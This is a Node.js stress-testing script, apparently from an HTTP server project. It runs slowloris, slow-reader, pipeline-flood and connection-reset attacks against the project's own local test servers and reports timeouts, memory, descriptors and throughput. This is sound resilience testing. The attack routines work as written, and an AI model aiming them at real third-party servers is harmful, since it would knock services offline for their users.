#!/usr/bin/env node
// Abuse a running HTTP server the way an attacker would, and print what it did meanwhile.
//
//   node scripts/attack.js <mode> [--host 127.0.0.1] [--port 8080] [--pid PID] [options]
//
// Modes:
//   slowloris      --connections 1000 --interval 1000 --duration 15: each connection sends a request head one
//                  header line every --interval ms and never ends it. Reports how the server ended them (408, closed,
//                  still open) and the req/s a normal keep-alive client got meanwhile.
//   slow-readers   --connections 50 --bytes 1073741824 --rate 65536 --duration 15: each connection asks for a
//                  --bytes body (GET /big?n=) and reads --rate bytes a second. Reports the server's RSS.
//   pipeline-flood --requests 200000 --duration 15: one connection writes --requests pipelined GETs without
//                  reading, waits, then reads every answer. Reports how much the server took before it stopped
//                  reading (the client's unsent bytes), its RSS, and whether every request was answered.
//   resets         --runs 200: 13 ways of dropping or half-closing a connection (RST or FIN before, during and after
//                  a request, during a large response), each --runs times. Reports whether the server still serves
//                  and, with --pid, its descriptors before and after.
//
// The targets are bench/attack/AttackServer (NodeHttp) and bench/attack/attack-node-server.js (Node 20), both with
// headersTimeout 5 s and requestTimeout 10 s checked every second; --pid gives RSS (VmRSS, VmHWM) and descriptors.
// Exit status 0 when the server still answers a fresh request at the end.
'use strict';
const net = require('net');
const fs = require('fs');

const mode = process.argv[2];
const opts = {
  host: '127.0.0.1', port: 8080, pid: 0, connections: 0, interval: 1000, duration: 15, bytes: 1024 * 1024 * 1024,
  rate: 64 * 1024, requests: 200000, runs: 200,
};
for (let i = 3; i < process.argv.length; i += 2) {
  const name = process.argv[i].replace(/^--/, '');
  if (!(name in opts) || i + 1 >= process.argv.length) {
    console.error(`unknown or incomplete option: ${process.argv[i]}`);
    process.exit(2);
  }
  opts[name] = typeof opts[name] === 'number' ? Number(process.argv[i + 1]) : process.argv[i + 1];
}
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

function memory() {
  if (!opts.pid) return null;
  try {
    const s = fs.readFileSync(`/proc/${opts.pid}/status`, 'utf8');
    const kb = (k) => Number((s.match(new RegExp(k + ':\\s+(\\d+)')) || [0, 0])[1]);
    return { rssMiB: Math.round(kb('VmRSS') / 1024), peakMiB: Math.round(kb('VmHWM') / 1024), fds: fs.readdirSync(`/proc/${opts.pid}/fd`).length };
  } catch { return null; }
}

// One request on a fresh connection: resolves with the status code, or 0.
function fresh(path = '/') {
  return new Promise((resolve) => {
    const s = net.connect(opts.port, opts.host);
    let d = '';
    const t = setTimeout(() => { s.destroy(); resolve(0); }, 5000);
    s.on('connect', () => s.write(`GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`));
    s.on('data', (x) => { d += x.toString('latin1'); });
    s.on('error', () => {});
    s.on('close', () => { clearTimeout(t); resolve(Number((d.match(/^HTTP\/1\.1 (\d{3})/) || [0, 0])[1])); });
  });
}

// A keep-alive client sending GETs back to back for as long as `running()`; returns how many were answered.
async function probe(running) {
  let answered = 0;
  while (running()) {
    await new Promise((resolve) => {
      const s = net.connect(opts.port, opts.host);
      let buf = '';
      const send = () => s.write('GET / HTTP/1.1\r\nHost: x\r\n\r\n');
      s.on('connect', send);
      s.on('data', (x) => {
        buf += x.toString('latin1');
        let i;
        while ((i = buf.indexOf('\r\n\r\nok')) >= 0) {
          buf = buf.slice(i + 6);
          answered++;
          if (!running()) { s.destroy(); return; }
          send();
        }
      });
      s.on('error', () => {});
      s.on('close', resolve);
    });
  }
  return answered;
}

async function slowloris() {
  const n = opts.connections || 1000;
  const ended = { '408': 0, closed: 0, open: 0, refused: 0 };
  const socks = [];
  const started = Date.now();
  const timers = [];
  for (let i = 0; i < n; i++) {
    const s = net.connect(opts.port, opts.host);
    const st = { s, data: '', done: false };
    socks.push(st);
    s.on('connect', () => {
      s.write('GET / HTTP/1.1\r\nHost: x\r\n');
      let k = 0;
      const t = setInterval(() => { if (!s.destroyed) s.write(`X-${k++}: y\r\n`); }, opts.interval);
      timers.push(t);
    });
    s.on('data', (x) => { st.data += x.toString('latin1'); });
    s.on('error', (e) => { if (e.code === 'ECONNREFUSED') st.refused = true; });
    s.on('close', () => {
      st.done = true;
      st.at = Date.now() - started;
      if (st.refused) ended.refused++;
      else if (st.data.startsWith('HTTP/1.1 408')) ended['408']++;
      else ended.closed++;
    });
  }
  let running = true;
  const stop = sleep(opts.duration * 1000).then(() => { running = false; });
  const before = memory();
  const probeStart = Date.now();
  const answered = await probe(() => running);
  await stop;
  const seconds = (Date.now() - probeStart) / 1000;
  timers.forEach(clearInterval);
  ended.open = socks.filter((x) => !x.done).length;
  const cut = socks.filter((x) => x.done && x.at).map((x) => x.at).sort((a, b) => a - b);
  const after = memory();
  socks.forEach((x) => x.s.destroy());
  console.log(`slowloris: ${n} connections, one header line every ${opts.interval} ms for ${opts.duration} s`);
  console.log(`  ended by the server: 408 ${ended['408']}, closed without answer ${ended.closed}, refused ${ended.refused}; still open ${ended.open}`);
  if (cut.length) console.log(`  cut after ${cut[0]}..${cut[cut.length - 1]} ms (median ${cut[cut.length >> 1]} ms)`);
  console.log(`  a keep-alive client meanwhile: ${answered} requests, ${(answered / seconds).toFixed(0)} req/s`);
  if (before) console.log(`  server RSS ${before.rssMiB} -> ${after.rssMiB} MiB (peak ${after.peakMiB} MiB), fds ${before.fds} -> ${after.fds}`);
}

async function slowReaders() {
  const n = opts.connections || 50;
  const before = memory();
  let peak = 0;
  let received = 0;
  const socks = [];
  for (let i = 0; i < n; i++) {
    const s = net.connect(opts.port, opts.host);
    s.on('connect', () => s.write(`GET /big?n=${opts.bytes} HTTP/1.1\r\nHost: x\r\n\r\n`));
    s.on('error', () => {});
    // Paused; about --rate bytes a second are taken from it (whole buffered chunks, so somewhat more).
    s.pause();
    socks.push(s);
  }
  const tick = setInterval(() => {
    for (const s of socks) {
      let budget = opts.rate / 10;
      let chunk;
      while (budget > 0 && (chunk = s.read()) !== null) { budget -= chunk.length; received += chunk.length; }
    }
    const m = memory();
    if (m) peak = Math.max(peak, m.rssMiB);
  }, 100);
  let running = true;
  const stop = sleep(opts.duration * 1000).then(() => { running = false; });
  const answered = await probe(() => running);
  await stop;
  clearInterval(tick);
  const after = memory();
  socks.forEach((s) => s.destroy());
  await sleep(500);
  const end = memory();
  console.log(`slow-readers: ${n} connections asking for ${opts.bytes} bytes each, reading ${opts.rate} B/s each, for ${opts.duration} s`);
  console.log(`  read ${(received / 1048576).toFixed(1)} MiB in all (${(received / n / opts.duration / 1024).toFixed(0)} KiB/s a connection); a keep-alive client meanwhile: ${answered} requests, ${(answered / opts.duration).toFixed(0)} req/s`);
  if (before) console.log(`  server RSS ${before.rssMiB} MiB before, ${peak} MiB at most during, ${after.rssMiB} MiB at the end, ${end.rssMiB} MiB after the readers left; fds ${before.fds} -> ${end.fds}`);
}

async function pipelineFlood() {
  const before = memory();
  const one = Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n');
  const s = net.connect(opts.port, opts.host);
  await new Promise((r) => s.on('connect', r));
  s.on('error', () => {});
  s.pause();
  const started = Date.now();
  const batch = Buffer.concat(Array(1000).fill(one));
  let queued = 0;
  for (let i = 0; i < opts.requests; i += 1000) { s.write(batch); queued += 1000; }
  let peak = 0;
  for (let t = 0; t < opts.duration * 10; t++) {
    await sleep(100);
    const m = memory();
    if (m) peak = Math.max(peak, m.rssMiB);
  }
  const unsent = s.writableLength;
  let answers = 0;
  let tail = '';
  s.on('data', (x) => {
    // A marker cut by the previous chunk is completed here; one wholly in the kept tail was counted already.
    const d = tail + x.toString('latin1');
    let i = -1;
    while ((i = d.indexOf('\r\n\r\nok', i + 1)) >= 0) if (i + 6 > tail.length) answers++;
    tail = d.slice(-5);
  });
  s.resume();
  const deadline = Date.now() + 120000;
  while (answers < queued && Date.now() < deadline) await sleep(100);
  const seconds = (Date.now() - started) / 1000;
  const after = memory();
  s.destroy();
  console.log(`pipeline-flood: ${queued} pipelined GETs on one connection, unread for ${opts.duration} s`);
  console.log(`  still in the client's buffer when reading began: ${(unsent / 1048576).toFixed(1)} MiB (${Math.round(unsent / one.length)} requests): the server stopped reading`);
  console.log(`  answered ${answers} of ${queued} in ${seconds.toFixed(1)} s`);
  if (before) console.log(`  server RSS ${before.rssMiB} MiB before, ${peak} MiB at most while unread, ${after.rssMiB} MiB at the end`);
}

// Each pattern opens one connection, does its thing, and resolves once the connection is gone.
const RESETS = {
  'rst-at-once': (s) => s.resetAndDestroy(),
  'fin-at-once': (s) => s.end(),
  'rst-mid-head': (s) => { s.write('GET / HTTP/1.1\r\nHo'); setImmediate(() => s.resetAndDestroy()); },
  'fin-mid-head': (s) => { s.write('GET / HTTP/1.1\r\nHo'); s.end(); },
  'rst-after-request': (s) => { s.write('GET / HTTP/1.1\r\nHost: x\r\n\r\n'); s.resetAndDestroy(); },
  'fin-after-request': (s) => { s.end('GET / HTTP/1.1\r\nHost: x\r\n\r\n'); },
  'rst-mid-body': (s) => { s.write('POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nabc'); setImmediate(() => s.resetAndDestroy()); },
  'fin-mid-body': (s) => { s.end('POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nabc'); },
  'rst-mid-chunk': (s) => { s.write('POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nab'); setImmediate(() => s.resetAndDestroy()); },
  'rst-mid-response': (s) => { s.write('GET /big?n=67108864 HTTP/1.1\r\nHost: x\r\n\r\n'); s.once('data', () => s.resetAndDestroy()); },
  'fin-mid-response': (s) => { s.end('GET /big?n=67108864 HTTP/1.1\r\nHost: x\r\n\r\n'); s.once('data', () => setTimeout(() => s.destroy(), 5)); },
  'rst-pipelined': (s) => { s.write('GET / HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(50)); setImmediate(() => s.resetAndDestroy()); },
  'rst-after-answer': (s) => { s.write('GET / HTTP/1.1\r\nHost: x\r\n\r\n'); s.once('data', () => s.resetAndDestroy()); },
};

async function resets() {
  const before = memory();
  const results = {};
  for (const [name, act] of Object.entries(RESETS)) {
    let gone = 0;
    for (let i = 0; i < opts.runs; i++) {
      await new Promise((resolve) => {
        const s = net.connect(opts.port, opts.host);
        const t = setTimeout(() => { s.destroy(); resolve(); }, 10000);
        s.on('connect', () => act(s));
        s.on('data', () => {});
        s.on('error', () => {});
        s.on('close', () => { clearTimeout(t); gone++; resolve(); });
      });
    }
    results[name] = (await fresh()) === 200 ? 'served after' : 'NOT SERVED after';
    if (results[name] !== 'served after') results[name] += ` (${gone} closed)`;
  }
  await sleep(1000);
  const after = memory();
  console.log(`resets: ${Object.keys(RESETS).length} patterns x ${opts.runs} runs`);
  for (const [name, r] of Object.entries(results)) console.log(`  ${name.padEnd(18)} ${r}`);
  if (before) console.log(`  server fds ${before.fds} -> ${after.fds}, RSS ${before.rssMiB} -> ${after.rssMiB} MiB`);
}

(async () => {
  const run = { slowloris, 'slow-readers': slowReaders, 'pipeline-flood': pipelineFlood, resets }[mode];
  if (!run) {
    console.error('usage: node scripts/attack.js slowloris|slow-readers|pipeline-flood|resets [--port N] [--pid PID] [options]');
    process.exit(2);
  }
  await run();
  const status = await fresh();
  console.log(`  a fresh request afterwards: ${status || 'no answer'}`);
  process.exit(status === 200 ? 0 : 1);
})();
